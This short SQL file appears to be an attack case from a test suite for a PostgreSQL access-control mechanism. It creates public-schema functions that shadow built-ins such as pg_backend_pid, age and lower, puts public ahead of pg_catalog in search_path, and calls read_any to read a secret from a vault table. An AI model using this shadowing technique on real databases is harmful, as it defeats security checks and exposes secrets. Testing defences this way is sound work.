-- Hides the functions that the witness calls behind own ones.
-- wants: read
-- attack:
CREATE FUNCTION public.pg_backend_pid() RETURNS int LANGUAGE sql AS 'SELECT 0';
CREATE FUNCTION public.age(xid) RETURNS int LANGUAGE sql AS 'SELECT 9';
CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS 'SELECT ''''';
SET search_path = public, pg_catalog;
SELECT read_any('SELECT secret FROM public.vlt_account');
